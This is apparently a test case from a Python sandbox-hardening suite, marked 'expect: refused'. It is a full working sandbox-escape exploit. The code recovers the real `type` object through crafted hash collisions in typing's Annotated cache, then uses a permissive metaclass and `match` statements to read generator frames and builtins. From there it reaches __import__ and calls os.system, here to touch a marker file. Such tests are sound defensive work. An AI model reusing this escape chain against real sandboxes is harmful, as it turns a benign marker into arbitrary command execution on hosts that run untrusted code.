# category: native-readers
# signal: marker
# expect: refused
# tripwire: stops object.__getattr__ gi_frame
# python: >=3.11.7 <3.12 (the typed Annotated cache, keyed by (cls, *params, type(cls), *param types), came with CPython 3.11.7 and 3.12.1; 3.11.0-3.11.6 key it by (cls, params), with no type in the key; in 3.12 type lies past the scan below, and 3.13 keys it by its special form's own class)
# source: typing's typed caches key an Annotated alias by (cls, *params, type(cls), *param types), so a cached key holds the real `type`; a probe key of another length whose hash collides with it (tuple hashes can be inverted; hash(type) comes from scanning addresses near id(int); the probe raises, so it is never cached) makes the C dict compare the keys item by item, calling the probe's __eq__ with `type`; then the metaclass and `match` reads as in alias_comparison_hands_real_type
import typing
MASK = (1 << 64) - 1
P1 = 11400714785074694791
P2 = 14029467366897019727
P5 = 2870177450012600261
IP1 = pow(P1, -1, 1 << 64)
IP2 = pow(P2, -1, 1 << 64)
def rotl(x):
    return ((x << 31) | (x >> 33)) & MASK
def rotr(x):
    return ((x >> 31) | (x << 33)) & MASK
def step(acc, lane):
    return (rotl((acc + (lane & MASK) * P2) & MASK) * P1) & MASK
def unstep(acc, lane):
    return (rotr((acc * IP1) & MASK) - (lane & MASK) * P2) & MASK
def lenmix(n):
    return n ^ (P5 ^ 3527539)
def tuple_hash(lanes):
    acc = P5
    for lane in lanes:
        acc = step(acc, lane)
    return (acc + lenmix(len(lanes))) & MASK
caught = []
class Meta0:
    def __hash__(self):
        return 12345
    def __eq__(self, other):
        return isinstance(other, Spy)
class Spy:
    def __init__(self, h, role):
        self.h = h
        self.role = role
    def __hash__(self):
        return self.h
    def __eq__(self, other):
        if self.role == "int":
            if other is typing.Any:
                raise TypeError("a probe is never cached")
            return other is int
        if self.role == "meta":
            return isinstance(other, Meta0)
        if not isinstance(other, Spy) and not caught:
            caught.append(other)
        return False
m0 = Meta0()
typing.Annotated[int, m0]
a = Spy(1, "int")
b = Spy(2, "meta")
h_ann = hash(typing.Annotated)
h_spy = hash(Spy)
base = id(int)
def signed(x):
    return x - (1 << 64) if x >= (1 << 63) else x
found = None
for k in range(0, 1 << 13):  # type lies about 7,000 steps from int in CPython 3.11
    delta = (k // 2 + 1) * 8 * (1 if k % 2 == 0 else -1)
    addr = base + delta
    g = ((addr >> 4) | ((addr & 15) << 60)) & MASK
    target = tuple_hash([h_ann, hash(int), 12345, g, g, hash(Meta0)])
    acc = (target - lenmix(8)) & MASK
    for lane in (h_spy, h_spy, h_spy, g):
        acc = unstep(acc, lane)
    acc2 = step(step(step(P5, h_ann), 1), 2)
    lane3 = ((rotr((acc * IP1) & MASK) - acc2) * IP2) & MASK
    c = Spy(signed(lane3), "spy")
    try:
        typing.Annotated[a, b, c]
    except TypeError:
        pass
    if caught:
        found = caught[0]
        break
real_type = found
Meta = real_type("Meta", (real_type,), {"__instancecheck__": lambda cls, obj: True})
def read(obj, name):
    View = Meta("View", (), {"__match_args__": (name,)})
    match obj:
        case View(value):
            return value
def walk():
    frame = read(walker, "gi_frame")
    while frame is not None:
        imp = read(frame, "f_builtins").get("__import__")
        if imp is not None:
            try:
                imp("os").system("touch {MARKER_PATH}")
                yield "done"
                return
            except Exception:
                pass
        frame = read(frame, "f_back")
    yield "no import found"
walker = walk()
return next(walker)
